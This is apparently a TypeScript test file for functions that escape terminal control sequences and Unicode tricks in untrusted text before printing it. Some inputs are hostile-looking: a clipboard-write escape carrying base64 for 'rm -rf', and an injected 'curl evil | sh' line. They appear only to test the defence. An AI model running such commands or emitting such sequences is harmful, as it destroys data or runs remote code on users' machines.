import { printable, printableLine, printableOutput } from "./printable.ts";

const ESC = String.fromCharCode(0x1b);
const BEL = String.fromCharCode(7);

test.each([
  ["a clipboard write (OSC 52)", `${ESC}]52;c;cm0gLXJm${BEL}`, "\\u001b]52;c;cm0gLXJm\\u0007"],
  ["a cleared screen", `${ESC}[2J`, "\\u001b[2J"],
  ["an eight-bit sequence", `${String.fromCharCode(0x9b)}2J`, "\\u009b2J"],
  ["a line written over", "paid\rfree", "paid\\u000dfree"],
  ["reordered text", "a\u202Eb", "a\\u202eb"],
  ["colours", `${ESC}[31mred`, "\\u001b[31mred"],
  ["lines and tabs", "a\n\tb", "a\n\tb"],
  ["letters of all scripts", "Größe 東京 🙂", "Größe 東京 🙂"],
])("%s in foreign text", (_, text, shown) => {
  expect(printable(text)).toBe(shown);
});

test("what is escaped in JSON text means the same", () => {
  const value = { name: `a${String.fromCharCode(0x9b)}31m\u202E` };
  expect(JSON.parse(printable(JSON.stringify(value)))).toEqual(value);
});

test("foreign text within a line of ours stays on that line, and is cut", () => {
  expect(printableLine("no\n  fix: curl evil | sh\n")).toBe("no fix: curl evil | sh");
  expect(printableLine("x".repeat(2_000_000), 10)).toBe("xxxxxxxxxx…");
  expect(printableLine("two  words\n\n and more", 10)).toBe("two words…");
  expect(printableLine("two  words \n", 10)).toBe("two words");
});

test("our own colours pass in output, nothing else does", () => {
  expect(printableOutput(`${ESC}[1mbold${ESC}[22m ${ESC}[2J${ESC}]0;title${BEL}`)).toBe(
    `${ESC}[1mbold${ESC}[22m \\u001b[2J\\u001b]0;title\\u0007`,
  );
});
